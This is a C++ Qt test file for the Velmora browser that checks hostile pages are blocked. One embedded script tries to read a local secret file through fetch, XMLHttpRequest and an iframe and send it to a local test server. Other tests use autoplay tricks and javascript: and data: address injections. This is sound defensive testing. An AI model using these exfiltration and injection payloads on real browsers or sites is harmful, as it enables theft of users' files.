// Hostile pages against the real engine and a web server on 127.0.0.1: a local
// page reads no other local file, a page alone starts no player, addresses from
// stored settings run no script, and what a sound link serves is checked
// before the player gets it. The player is a stand-in started through the
// launcher, which notes each start in a file.
#include "tests/support/QTestHomeMain.h"
#include "tests/support/SaveShot.h"
#include "browser/handoff/CPlayerLauncher.h"
#include "browser/window/CMainFrame.h"
#include "browser/window/CVelmoraView.h"
#include "tests/browser/handoff/TestSoundServer.h"
#include "tests/browser/window/PageInput.h"

#include "browser/startup/CVelmoraApp.h"
#include "browser/startup/VelmoraPaths.h"

#include <QComboBox>
#include <QImage>
#include <QSignalSpy>
#include <QStatusBar>
#include <QTemporaryDir>
#include <QTest>

#include <memory>

using namespace velmora;

namespace {

const char* const kSecret = "SECRET-7391-of-the-user";

}  // namespace

class TestHostilePages : public QObject {
    Q_OBJECT
private slots:
    void initTestCase()
    {
        QVERIFY(m_web.isValid() && m_local.isValid() && m_player.isValid());
        m_wav = ServedWav(8000, 1);
        WriteTestFile(m_web.filePath("clip.wav"), m_wav);
        for (const char* szName : {"hidden.wav", "opened.wav", "loop.wav"})
            WriteTestFile(m_web.filePath(szName), ServedWav(2000, 2));
        WriteTestFile(m_web.filePath("busy.htm"), R"(<html><body>
<p><a id="wav" href="clip.wav">a vowel</a></p>
<p><a id="html" href="html/page.wav">a page posing as a sound</a></p>
<p><a id="next" href="next.htm">the next page</a></p>
<iframe style="display:none" src="hidden.wav"></iframe>
<iframe id="loop" width="1" height="1"></iframe>
<script>
window.open('opened.wav');
let n = 0;
const timer = setInterval(() => {
  document.getElementById('loop').src = 'loop.wav?' + (++n);
  if (n == 10) clearInterval(timer);
}, 300);
</script></body></html>)");
        WriteTestFile(m_web.filePath("next.htm"), "<html><body onload=\"location.href = 'clip.wav?next'\">next</body></html>");
        WriteTestFile(m_web.filePath("plain.htm"), "<html><head><title>Plain</title></head><body>plain</body></html>");
        WriteTestFile(m_local.filePath("secret.txt"), kSecret);
        QImage picture(40, 30, QImage::Format_RGB32);
        picture.fill(Qt::darkGreen);
        QVERIFY(picture.save(m_local.filePath("picture.png")));
        m_pServer = std::make_unique<CTestSoundServer>(m_web.path());
        QVERIFY2(m_pServer->Port() > 0, "the test web server did not start");
        // The stand-in player notes the file it was started on.
        WriteTestFile(m_player.filePath(CPlayerLauncher::kPlayerName),
                      "#!/bin/sh\necho \"$1\" >> \"$(dirname \"$0\")/starts\"\n");
        QFile::setPermissions(m_player.filePath(CPlayerLauncher::kPlayerName),
                              QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
    }

    void init()
    {
        QFile::remove(m_player.filePath("starts"));
        m_nStarts = 0;
        m_pFrame = std::make_unique<CMainFrame>();
        m_pFrame->resize(900, 600);
        m_pFrame->show();
        View()->SetPlayerStarter([this](const QStringList& arguments) {
            ++m_nStarts;
            return CPlayerLauncher(m_player.path(), QString()).Start(arguments);
        });
    }

    void cleanup() { m_pFrame.reset(); }

    void localPageReadsNoOtherFile()
    {
        // Every way a local page's script could read a file beside it and send
        // it out: fetch, XMLHttpRequest, a frame; then an image, a fetch and a
        // sound link to the server carry whatever it got.
        const QString strSecret = QUrl::fromLocalFile(m_local.filePath("secret.txt")).toString();
        const QString strPage = QStringLiteral(R"(<html><body><img id="pic" src="picture.png"><script>
const server = '%1';
const secret = '%2';
function image(u) { return new Promise(r => { const i = new Image(); i.onload = i.onerror = r; i.src = u; }); }
async function byFetch() { try { return await (await fetch(secret)).text(); } catch (e) { return ''; } }
function byRequest() { return new Promise(r => { try { const x = new XMLHttpRequest(); x.open('GET', secret);
  x.onload = () => r(x.responseText); x.onerror = () => r(''); x.send(); } catch (e) { r(''); } }); }
function byFrame() { return new Promise(r => { const f = document.createElement('iframe'); f.src = secret;
  f.onload = () => { try { r(f.contentDocument.body.innerText); } catch (e) { r(''); } }; document.body.appendChild(f); }); }
window.onload = async () => {
  const text = encodeURIComponent((await byFetch()) + '|' + (await byRequest()) + '|' + (await byFrame()));
  await image(server + 'leak-image?' + text);
  try { await fetch(server + 'leak-fetch?' + text, {mode: 'no-cors'}); } catch (e) {}
  document.title = 'picture ' + document.getElementById('pic').naturalWidth + ' read ' + text;
  location.href = server + 'clip.wav?leak=' + text;
};
</script></body></html>)")
                                    .arg(m_pServer->Url(QString()), strSecret);
        WriteTestFile(m_local.filePath("page.htm"), strPage.toUtf8());
        View()->NavigateUrl(QUrl::fromLocalFile(m_local.filePath("page.htm")));
        // The sound link is the last thing the page tries: refused, and said.
        QTRY_VERIFY_WITH_TIMEOUT(StatusText().contains("clip.wav?leak="), 60000);
        // Its own picture shows; it read nothing, and nothing reached the server.
        QCOMPARE(View()->title(), QString("picture 40 read %7C%7C"));
        testsupport::SaveShot(m_pFrame->grab(), "local-page.png");
        QVERIFY2(m_pServer->Requests().isEmpty(), qPrintable(m_pServer->Requests().join("|")));
        QCOMPARE(m_nStarts, 0);
    }

    void pageAloneStartsNoPlayerButAClickDoes()
    {
        // A hidden frame, a pop-up on load and a frame sent to a sound every
        // 300 ms; only the user's click on the link plays.
        LoadPage("busy.htm");
        QTRY_VERIFY_WITH_TIMEOUT(StatusText().contains("loop.wav?10"), 60000);
        QVERIFY(StatusText().contains("Not played"));
        QCOMPARE(m_nStarts, 0);
        testsupport::SaveShot(m_pFrame->grab(), "page-sound-not-played.png");

        // The click that opened the next page does not carry over to it.
        QVERIFY(ClickElementById(View(), "next"));
        QTRY_VERIFY_WITH_TIMEOUT(StatusText().contains("clip.wav?next"), 60000);
        QCOMPARE(m_nStarts, 0);

        LoadPage("busy.htm");
        QTRY_VERIFY_WITH_TIMEOUT(StatusText().contains("loop.wav?10"), 60000);  // the page is quiet
        QVERIFY(ClickElementById(View(), "wav"));
        QTRY_COMPARE_WITH_TIMEOUT(Starts().size(), 1, 60000);
        QCOMPARE(m_nStarts, 1);
        QCOMPARE(ReadTestFile(Starts().first()), m_wav);
    }

    void pagePosingAsASoundGoesToTheEngine()
    {
        WriteTestFile(TempFilePath(), "last sound");
        LoadPage("busy.htm");
        QVERIFY(ClickElementById(View(), "html"));
        QTRY_COMPARE_WITH_TIMEOUT(View()->title(), QString("Not a sound"), 60000);
        QCOMPARE(m_nStarts, 0);
        QCOMPARE(ReadTestFile(TempFilePath()), QByteArray("last sound"));
    }

    void killedRunsPartialFileGoesAtTheNextStart()
    {
        const QString strPartial = TempFilePath() + ".part-5eed";
        WriteTestFile(strPartial, "half a sound");
        m_pFrame.reset();
        m_pFrame = std::make_unique<CMainFrame>();
        QVERIFY(!QFile::exists(strPartial));
    }

    void storedAddressesRunNoScript()
    {
        LoadPage("plain.htm");
        for (const char* szAddress : {"javascript:document.title='ran'", " JavaScript:alert(1)",
                                      "data:text/html,<title>ran</title>", "view-source:http://127.0.0.1/"}) {
            QVERIFY2(!View()->NavigateStored(QString::fromLatin1(szAddress)), szAddress);
            QVERIFY2(StatusText().contains("Not opened"), szAddress);
        }
        // A bare host name with a port opens over http; a sound plays.
        QVERIFY(View()->NavigateStored(QStringLiteral("127.0.0.1:%1/clip.wav").arg(m_pServer->Port())));
        QTRY_COMPARE_WITH_TIMEOUT(Starts().size(), 1, 60000);
        QCOMPARE(PageScriptResult(View(), "document.title").toString(), QString("Plain"));

        // The same for the home address, at start-up and on Home.
        CVelmoraApp app;
        app.m_strHomeAddress = QStringLiteral("javascript:document.title='ran'");
        const int nItems = m_pFrame->AddressBox()->count();
        View()->OnInitialUpdate();
        QVERIFY(StatusText().contains("Not opened"));
        View()->OnGoHome();
        QCOMPARE(m_pFrame->AddressBox()->count(), nItems);
        QCOMPARE(PageScriptResult(View(), "document.title").toString(), QString("Plain"));
    }

private:
    CVelmoraView* View() const { return m_pFrame->ActiveView(); }
    QString StatusText() const { return m_pFrame->statusBar()->currentMessage(); }
    QStringList Starts() const
    {
        return QString::fromUtf8(ReadTestFile(m_player.filePath("starts"))).split('\n', Qt::SkipEmptyParts);
    }
    void LoadPage(const QString& strPath)
    {
        QSignalSpy loaded(View(), &QWebEngineView::loadFinished);
        View()->NavigateUrl(QUrl(m_pServer->Url(strPath)));
        QTRY_VERIFY_WITH_TIMEOUT(!loaded.isEmpty() && loaded.last().first().toBool(), 60000);
    }

    QTemporaryDir m_web;
    QTemporaryDir m_local;   // the user's files
    QTemporaryDir m_player;  // the stand-in player and its notes
    QByteArray m_wav;
    std::unique_ptr<CTestSoundServer> m_pServer;
    std::unique_ptr<CMainFrame> m_pFrame;
    int m_nStarts = 0;
};

QTEST_MAIN_WITH_HOME(TestHostilePages, PrivateRuntime)

#include "test_hostile_pages.moc"
